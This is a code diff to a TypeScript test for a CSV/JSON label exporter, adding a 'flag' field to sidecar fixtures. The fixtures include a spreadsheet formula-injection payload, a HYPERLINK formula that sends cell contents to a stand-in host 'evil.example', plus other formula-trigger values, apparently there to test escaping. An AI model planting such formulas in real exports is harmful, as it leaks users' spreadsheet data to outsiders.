@@ -5,7 +5,7 @@ import { exportLines, parseCsv, parseExport } from './label-export.js';
 const HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"open")';
 
 function sidecar(path: string, over: Partial<Sidecar> = {}): Sidecar {
-  return { path, tags: [], notes: '', star: null, metrics: {}, version: 1, updated_at: '2026-01-02T03:04:05.000Z', updated_by: 'ann', ...over };
+  return { path, tags: [], notes: '', star: null, flag: null, metrics: {}, version: 1, updated_at: '2026-01-02T03:04:05.000Z', updated_by: 'ann', ...over };
 }
 
 async function render(rows: Sidecar[], format: 'json' | 'csv'): Promise<string> {
@@ -19,7 +19,7 @@ async function render(rows: Sidecar[], format: 'json' | 'csv'): Promise<string> 
 
 const rows = [
   sidecar('/a.jpg', { notes: HOSTILE, tags: ['=cmd', 'ok'], updated_by: '@bob' }),
-  sidecar('/b.jpg', { notes: "'tis a quote", star: 3 }),
+  sidecar('/b.jpg', { notes: "'tis a quote", star: 3, flag: null }),
   sidecar('/c.jpg', { notes: "'=already quoted", updated_by: '-x' }),
   sidecar('/d.jpg', { notes: '+1, "two"\n\tthree' }),
 ];
